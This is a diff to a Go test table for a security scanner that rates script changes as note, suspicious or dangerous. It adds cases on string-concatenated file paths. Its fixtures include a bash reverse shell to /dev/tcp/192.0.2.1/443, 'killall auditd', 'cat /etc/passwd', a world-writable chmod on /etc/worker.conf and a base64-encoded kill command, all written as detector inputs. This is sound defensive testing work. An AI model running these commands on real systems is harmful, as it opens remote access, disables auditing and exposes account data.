@@ -53,9 +53,11 @@ func TestWhatTheBaseDoesAlreadyIsOneStepMilder(t *testing.T) {
 		"only in CI":           {".github/workflows/a.yml", workflow, "b.sh", "killall worker\n", "process/shell-kill", gate.SeveritySuspicious, ""},
 		"beside what is known": {"scripts/a.sh", "#!/bin/sh\nkillall worker\n", "b.sh", "killall worker\nkillall auditd\n", "process/shell-kill", gate.SeveritySuspicious, ""},
 		"a call":               {"a.py", "import os\nos.chmod('/etc/worker.conf', 0o777)\n", "b.py", "import os\n\nos.chmod(\"/etc/worker.conf\", 0o777)\n", "privilege/python-world-writable", gate.SeverityNote, "a.py:2"},
-		"what is dangerous":    {"scripts/a.sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "b.sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "reverse-shell/shell-device", gate.SeverityDangerous, ""},
-		"what is encoded":      {"scripts/a.sh", "killall -9 worker server client scheduler\n", "b.sh", "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x\n", "process/shell-kill", gate.SeveritySuspicious, ""},
-		"what reads secrets":   {"scripts/a.sh", "cat /etc/passwd\n", "b.sh", "cat /etc/passwd\n", "credentials/shell-account-file", gate.SeveritySuspicious, ""},
+		"beside other lines that are put together": {"a.py", "import os\nos.chmod('/etc/worker.conf', 0o777)\n", "b.py", "import os\nx = 'a' + 'b'\nos.chmod('/etc/worker.conf', 0o777)\n", "privilege/python-world-writable", gate.SeverityNote, "a.py:2"},
+		"what is put together":                     {"a.py", "import os\nos.chmod('/etc/worker.conf', 0o777)\n", "b.py", "import os\nos.chmod('/etc/wor' + 'ker.conf', 0o777)\n", "privilege/python-world-writable", gate.SeveritySuspicious, ""},
+		"what is dangerous":                        {"scripts/a.sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "b.sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "reverse-shell/shell-device", gate.SeverityDangerous, ""},
+		"what is encoded":                          {"scripts/a.sh", "killall -9 worker server client scheduler\n", "b.sh", "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x\n", "process/shell-kill", gate.SeveritySuspicious, ""},
+		"what reads secrets":                       {"scripts/a.sh", "cat /etc/passwd\n", "b.sh", "cat /etc/passwd\n", "credentials/shell-account-file", gate.SeveritySuspicious, ""},
 	} {
 		t.Run(name, func(t *testing.T) {
 			worst, message := gate.SeverityUnknown, ""
